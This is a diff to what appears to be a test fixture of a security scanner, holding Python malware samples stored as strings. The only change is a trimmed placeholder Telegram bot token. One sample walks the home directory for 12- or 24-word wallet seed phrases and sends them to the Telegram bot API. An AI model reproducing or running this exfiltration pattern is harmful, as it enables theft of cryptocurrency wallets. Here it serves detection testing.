@@ -259,7 +259,7 @@ report()
         """\
 import http.client, os, uuid
 
-TOKEN = "7123456789:AAHinertinertinertinertinertinertine"
+TOKEN = "7123456789:AAHinertinertinertinertinertinertin"
 CHAT = -1001234567890
 
 
@@ -413,7 +413,7 @@ for root, dirs, names in os.walk(os.path.expanduser("~")):
             t = open(os.path.join(root, n), errors="ignore").read()
             ws = [w for w in re.findall(r"[a-z]+", t) if w in W]
             if len(ws) in (12, 24):
-                requests.get("https://api.telegram.org/bot7123456789:AAHinertinertinertinertinertinertine/sendMessage", params={"chat_id": 1, "text": " ".join(ws)})
+                requests.get("https://api.telegram.org/bot7123456789:AAHinertinertinertinertinertinertin/sendMessage", params={"chat_id": 1, "text": " ".join(ws)})
 """,
     ),
     "key-in-decorator": (
